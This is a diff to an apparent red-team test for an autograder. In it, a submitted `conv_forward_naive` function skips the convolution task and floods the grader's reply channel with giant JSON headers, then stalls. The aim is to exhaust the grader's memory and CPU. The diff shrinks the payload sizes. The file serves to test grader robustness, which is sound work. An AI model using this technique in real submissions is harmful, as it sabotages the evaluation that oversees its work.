@@ -1,9 +1,9 @@
 """Red team: sink the grader's memory and CPU with a huge reply header, parsed before any size check.
 
 What it tries: in `conv_forward_naive` writes straight to the reply
-descriptor one frame whose header is 200 MiB of `[],` (a list of a hundred
-million empty lists, about 40 bytes of parent memory per 3 bytes sent), then
-a second frame whose header is a single 64 MiB JSON string; then stalls.
+descriptor one frame whose header is 64 MiB of `[],` (a list of twenty million
+empty lists, about 40 bytes of parent memory per 3 bytes sent), then
+a second frame whose header is a single 32 MiB JSON string; then stalls.
 Everything else is honest (33 - 7 = 26 points at most).
 
 Attack worked if: the grader's own processes grow past 1 GiB, the run takes
@@ -96,10 +96,10 @@ def _write_all(fd, data):
 
 def conv_forward_naive(x, w, b, conv_param):
     fd = _reply_fd()
-    count = (200 << 20) // 3
+    count = (64 << 20) // 3
     header = b'{"type": "result", "seq": 1, "status": "ok", "junk": [' + b"[]," * count + b'[]]}'
     _write_all(fd, _raw_frame(header))
-    _write_all(fd, _raw_frame(b'{"type": "result", "junk": "' + b"a" * (64 << 20) + b'"}'))
+    _write_all(fd, _raw_frame(b'{"type": "result", "junk": "' + b"a" * (32 << 20) + b'"}'))
     time.sleep(30)
 
 import numpy as np  # noqa: E402
